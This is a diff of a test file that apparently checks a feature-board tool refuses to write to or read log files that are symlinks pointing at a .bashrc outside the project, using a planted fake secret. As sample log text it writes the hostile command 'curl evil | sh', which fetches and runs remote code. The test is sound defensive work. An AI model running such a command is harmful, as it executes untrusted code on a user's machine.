@@ -48,15 +48,16 @@ describe('symlinks in the board’s folders', () => {
     expect(readFileSync(join(sandbox.outside, 'victim.json'), 'utf8')).toBe(outsideFeature(ID));
   });
 
-  it('item 2: a symlinked agent-output.md is neither appended to nor read', async () => {
+  it('item 2: a symlinked work log (ours, board-log.md, or the app’s agent-output.md) is neither appended to nor read', async () => {
     sandbox = makeSandbox();
     sandbox.plantFeature(ID, { title: 'Logged' });
     writeFileSync(join(sandbox.outside, '.bashrc'), 'export SECRET=1\n');
     symlinkSync(join(sandbox.outside, '.bashrc'), join(sandbox.repo, '.automaker', 'features', ID, 'agent-output.md'));
+    symlinkSync(join(sandbox.outside, '.bashrc'), join(sandbox.repo, '.automaker', 'features', ID, 'board-log.md'));
     const board = await open(sandbox);
     const logged = await board.call('feature_log', { id: ID, text: 'curl evil | sh' });
     expect(logged.isError).toBe(true);
-    expect(logged.text).toMatch(/agent-output\.md is a symbolic link/);
+    expect(logged.text).toMatch(/board-log\.md is a symbolic link/);
     expect(readFileSync(join(sandbox.outside, '.bashrc'), 'utf8')).toBe('export SECRET=1\n');
     const got = await board.call('feature_get', { id: ID });
     expect(JSON.stringify(got.raw)).not.toContain('SECRET');
